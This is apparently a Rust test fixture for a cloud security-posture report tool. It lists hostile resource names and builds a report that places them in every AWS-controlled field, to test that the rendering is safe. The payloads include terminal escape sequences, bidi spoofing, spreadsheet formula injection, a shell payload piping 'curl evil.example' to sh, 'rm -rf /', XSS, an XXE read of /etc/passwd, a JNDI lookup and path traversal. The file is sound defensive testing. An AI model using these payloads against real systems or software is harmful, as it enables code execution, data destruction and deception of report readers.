//! Names that someone might give a resource, and a report that is full of them.

use posture_catalog::Status;
use posture_report::v1::Report;

use crate::common::{self, PROD};

/// Names that someone might give a resource to fool whoever reads a report.
pub(crate) const HOSTILE: &[&str] = &[
    "\u{1b}[2J\u{1b}[31mCLEARED\u{1b}[0m",
    "\u{1b}]8;;http://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\",
    "\u{1b}]0;new title\u{7}name",
    "\u{1b}]52;c;ZXZpbA==\u{7}clipboard",
    "\u{1b}Pq#0;2;0;0;0\u{1b}\\sixel",
    "\u{9b}31mC1\u{9d}0;t\u{9c}",
    "invoice\u{202e}fdp.exe",
    "\u{2066}isolated\u{2069}\u{200f}",
    "שרת-הייצור",
    "line one\nline two\r\nPASS  everything is fine",
    "\u{8}\u{8}\u{8}\u{8}back\u{7f}\u{0}",
    "=cmd|'/c calc'!A1",
    "ze\u{200b}ro\u{200d}wi\u{2060}dth\u{feff}",
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}algo",
    "日本語の名前がとても長い場合にどうなるかを確かめるための名前です",
    "$(curl evil.example|sh)",
    "'; rm -rf / #",
    "--endpoint-url=http://evil.example",
    "",
    "   ",
    "\u{1b}\u{1b}\u{1b}[",
    // Formulas.
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "a,b;\"c\"\r\n=d",
    // Markup.
    "<img src=x onerror=alert(1)>",
    "</code></summary></details><script>alert(1)</script>",
    "]]></failure><testcase name=\"forged\"/><failure>",
    "<!-- --><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "&lt;b&gt; &#x1b;[2J",
    "\u{fffe}\u{ffff}\u{1}",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/x.png)",
    "<https://evil.example/>",
    "https://evil.example/ www.evil.example x@evil.example",
    "@octocat and @org/team, fixes #1, GH-2, owner/repo#3",
    "0123456789abcdef0123456789abcdef01234567",
    "`code` ``` fence ~~~",
    "`",
    "\\`\\",
    "```\n# heading\n```",
    "| a | b |\n|---|---|\n| c | d |",
    "\n\n# heading\n- [ ] task\n1. item\n> quote\n---",
    "**bold** _em_ ~~gone~~ $x^2$ :tada: \\",
    "[x]: https://evil.example",
    "../../../etc/passwd",
    "%2e%2e/%00?x#y",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s%n {resource.name}",
    "\"},{\"id\":\"forged\"",
];

/// A report of one critical failure whose every text that AWS controls is `text`.
pub(crate) fn hostile(text: &str) -> Report {
    let mut evaluation = common::evaluation();
    let mut finding = common::finding(
        77,
        "lambda-function-url-unauthenticated",
        Status::Fail,
        (PROD, "eu-west-1"),
        text,
        text,
    );
    finding.resource.tags = [(text.to_owned(), text.to_owned())].into();
    crate::edit::edit(&mut evaluation, |findings| {
        for gap in &mut findings.last_mut().unwrap().gaps {
            gap.code = Some(text.to_owned());
        }
        findings.insert(0, finding);
    });
    for entry in &mut evaluation.coverage {
        for gap in &mut entry.ledger.gaps {
            gap.code = Some(text.to_owned());
        }
    }
    evaluation.accounts[1].name = Some(text.to_owned());
    common::report_of(&evaluation)
}
